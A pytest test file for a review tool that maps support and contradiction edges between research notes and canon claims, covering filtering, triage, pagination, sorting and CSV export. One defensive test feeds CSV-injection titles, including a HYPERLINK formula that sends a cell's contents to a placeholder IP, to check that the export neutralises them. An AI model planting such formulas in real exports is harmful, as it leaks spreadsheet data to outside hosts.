import csv
import io
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from engine import Workspace
from engine.review.contest import ContestScope
from engine.review.matrix import (
    Page,
    QueueOrder,
    debate_map,
    distinct_labels,
    filter_frame,
    is_high_value,
    matrix_frame,
    page_rows,
    sort_queue,
    to_csv,
)
from engine.review.overlay import Overlay, OverlayEdge
from engine.review.relations import EdgeKey, Relation
from engine.review.triage import TriageDecision
from engine.workspace.stores import load_workspace

AGAINST = OverlayEdge(
    "exp-2009-backtest", "finance", "z-mom-01", Relation.CONTRADICTS, 0.6, 0.2, 0.36, "r", "e"
)
FOR = OverlayEdge("chk-2024-q1", "finance", "z-ret-02", Relation.SUPPORTS, 0.9, 0.8, 0.81, "r", "e")
ALSO_FOR = replace(FOR, canon_id="z-mom-01", confidence=0.7, priority=0.6)
SIDE = OverlayEdge(
    "deci-a7688a22", "finance", "z-sig-03", Relation.EXTENDS, 0.6, None, 0.45, "", ""
)
OVERLAY = Overlay("t", "offline", {}, {}, 0.0, (FOR, ALSO_FOR, AGAINST, SIDE))


@pytest.fixture
def workspace(lab_path: Path) -> Workspace:
    return load_workspace(lab_path)


@pytest.mark.parametrize(
    ("relation", "strength", "confidence", "expected"),
    [
        ("contradicts", None, 0.1, True),
        ("supports", 0.7, 0.8, True),
        ("supports", 0.69, 0.95, False),
        ("extends", 0.9, 0.79, False),
        ("supports", None, 0.99, False),
    ],
    ids=["any-contradiction", "strong-and-confident", "weak-claim", "unsure", "unknown-strength"],
)
def test_is_high_value(
    relation: str, strength: float | None, confidence: float, expected: bool
) -> None:
    assert is_high_value(relation, strength, confidence) is expected


def test_frame_has_one_row_per_edge_with_titles_and_flags(workspace: Workspace) -> None:
    frame = matrix_frame(OVERLAY, workspace)
    assert len(frame) == 4
    row = frame.iloc[2]
    assert (row.practice_title, row.canon_address) == (
        "2009 backtest of the momentum book",
        "zk:finance:z-mom-01",
    )
    assert bool(row.high_value) and row.triage == "" and row.edge_id == AGAINST.key.token
    # An unreviewed contradiction contests only when the workspace opts in.
    assert not frame["contested"].any()
    trusting = matrix_frame(OVERLAY, workspace, scope=ContestScope.UNREVIEWED)
    assert trusting["contested"].tolist() == [False, True, True, False]
    confirmed = matrix_frame(OVERLAY, workspace, triage={AGAINST.key: TriageDecision.CONFIRMED})
    assert confirmed["contested"].tolist() == [False, True, True, False]


@pytest.mark.parametrize(
    ("filters", "rows"),
    [
        ({}, 4),
        ({"relations": ["supports"]}, 2),
        ({"min_confidence": 0.65}, 2),
        ({"high_value_only": True}, 2),
        ({"contested_only": True}, 2),
        ({"relations": ["contradicts"], "min_confidence": 0.7}, 0),
        ({"text": "2009 BACKTEST"}, 1),
        ({"text": "z-mom-01"}, 2),
        # Only what a reviewer can triage: the one undecided contradiction, not the supports.
        ({"pending_only": True}, 1),
    ],
    ids=[
        "none", "relation", "confidence", "high-value", "contested", "combined", "title",
        "id", "pending",
    ],
)  # fmt: skip
def test_filters_change_the_row_count(
    workspace: Workspace, filters: dict[str, Any], rows: int
) -> None:
    frame = matrix_frame(
        OVERLAY,
        workspace,
        triage={SIDE.key: TriageDecision.FOLLOW_UP},
        scope=ContestScope.UNREVIEWED,
    )
    assert len(filter_frame(frame, **filters)) == rows


def test_dismissed_contradiction_is_not_contested_and_triage_shows(workspace: Workspace) -> None:
    triage = {AGAINST.key: TriageDecision.DISMISSED}
    frame = matrix_frame(OVERLAY, workspace, triage=triage)
    assert not frame["contested"].any()
    assert frame["triage"].tolist() == ["", "", "dismissed", ""]


def test_empty_overlay_gives_an_empty_typed_frame(workspace: Workspace) -> None:
    frame = matrix_frame(None, workspace)
    assert frame.empty and frame["confidence"].dtype == float
    assert len(filter_frame(frame, high_value_only=True)) == 0


def test_csv_has_a_header_and_a_line_per_row(workspace: Workspace) -> None:
    lines = to_csv(matrix_frame(OVERLAY, workspace)).splitlines()
    assert lines[0].startswith("edge_id,memory_id,memory_title") and len(lines) == 5


def test_debate_map_per_canon_claim() -> None:
    confirmed = EdgeKey("chk-2024-q1", "finance", "z-sig-03")
    triage = {confirmed: TriageDecision.CONFIRMED}
    entries = {e.canon_address: e for e in debate_map(OVERLAY, triage=triage)}
    assert entries["zk:finance:z-mom-01"].contradicting == ()  # unreviewed: not by default
    trusting = debate_map(OVERLAY, triage=triage, scope=ContestScope.UNREVIEWED)
    entries = {e.canon_address: e for e in trusting}
    assert sorted(entries) == ["zk:finance:z-mom-01", "zk:finance:z-ret-02", "zk:finance:z-sig-03"]
    mom = entries["zk:finance:z-mom-01"]
    assert (mom.supporting, mom.contradicting, mom.contested) == (
        ("chk-2024-q1",),
        ("exp-2009-backtest",),
        True,
    )
    assert not entries["zk:finance:z-ret-02"].contested
    assert entries["zk:finance:z-sig-03"].contradicting == ("chk-2024-q1",)


def test_debate_map_keeps_dismissed_apart() -> None:
    entries = debate_map(
        OVERLAY, triage={AGAINST.key: TriageDecision.DISMISSED}, scope=ContestScope.UNREVIEWED
    )
    mom = next(e for e in entries if e.canon_address == "zk:finance:z-mom-01")
    assert (mom.contradicting, mom.dismissed, mom.contested) == ((), ("exp-2009-backtest",), False)


def test_repeated_titles_get_distinct_labels() -> None:
    labels = distinct_labels(
        {"a": "Birth-weight is associated with later outcomes in two cohorts", "b": "Birth-weight "
         "is associated with later outcomes in three cohorts", "c": "Other"},
        width=30,
    )  # fmt: skip
    assert labels["a"] != labels["b"] and labels["a"].endswith("[a]") and labels["c"] == "Other"
    assert len(set(labels.values())) == 3


@pytest.mark.parametrize(
    ("total", "number", "size", "expected", "caption"),
    [
        (141, 0, 40, (0, 4, 0, 40), "showing 1–40 of 141 rows"),
        (141, 3, 40, (3, 4, 120, 141), "showing 121–141 of 141 rows"),
        (141, 9, 40, (3, 4, 120, 141), "showing 121–141 of 141 rows"),
        (0, 0, 40, (0, 1, 0, 0), "no rows"),
    ],
    ids=["first", "last", "past-the-end-clamps", "empty"],
)
def test_pages_count_truthfully(
    total: int, number: int, size: int, expected: tuple[int, int, int, int], caption: str
) -> None:
    page = Page.of(total, number, size)
    assert (page.number, page.pages, page.start, page.stop) == expected
    assert page.caption("rows") == caption


def test_queue_sorts_and_pages(workspace: Workspace) -> None:
    frame = matrix_frame(OVERLAY, workspace, triage={AGAINST.key: TriageDecision.DISMISSED})
    assert list(sort_queue(frame, QueueOrder.CONFIDENCE)["confidence"]) == [0.9, 0.7, 0.6, 0.6]
    decided = sort_queue(frame, QueueOrder.PENDING)["edge_id"].tolist()
    assert decided == [e.key.token for e in (FOR, ALSO_FOR, SIDE, AGAINST)]  # by priority
    undecided = matrix_frame(OVERLAY, workspace)
    assert sort_queue(undecided, QueueOrder.PENDING).iloc[0]["edge_id"] == AGAINST.key.token
    page = page_rows(sort_queue(frame, "priority"), Page.of(len(frame), 1, 3))
    assert isinstance(page, pd.DataFrame) and len(page) == 1 and page.index.tolist() == [0]


@pytest.mark.parametrize(
    "title",
    ['=HYPERLINK("http://203.0.113.9/?x="&A1,"open")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"],
    ids=["hyperlink", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_csv_neutralises_formula_prefixes(lab_path: Path, title: str) -> None:
    note = lab_path / ".memory/chk-2024-q1.md"
    text = note.read_text(encoding="utf-8")
    start = text.index("title:")
    end = text.index("\n", start)
    note.write_text(text[:start] + f"title: {json.dumps(title)}" + text[end:], encoding="utf-8")
    frame = matrix_frame(OVERLAY, load_workspace(lab_path))
    assert title in list(frame["practice_title"])
    rows = list(csv.DictReader(io.StringIO(to_csv(frame), newline="")))
    titles = [row["memory_title"] for row in rows if row["memory_id"] == "chk-2024-q1"]
    assert titles and set(titles) == {"'" + title}
    assert all(not row["zk_title"].startswith(("=", "+", "-", "@")) for row in rows)


def test_pending_queue_puts_the_likeliest_contradiction_first(workspace: Workspace) -> None:
    # A surer contradiction on a weaker claim has the lower priority but is read first.
    sure = replace(AGAINST, canon_id="z-ret-02", confidence=0.95, priority=0.1)
    overlay = replace(OVERLAY, edges=(*OVERLAY.edges, sure))
    queue = sort_queue(matrix_frame(overlay, workspace), QueueOrder.PENDING)
    assert queue["edge_id"].tolist()[:2] == [sure.key.token, AGAINST.key.token]
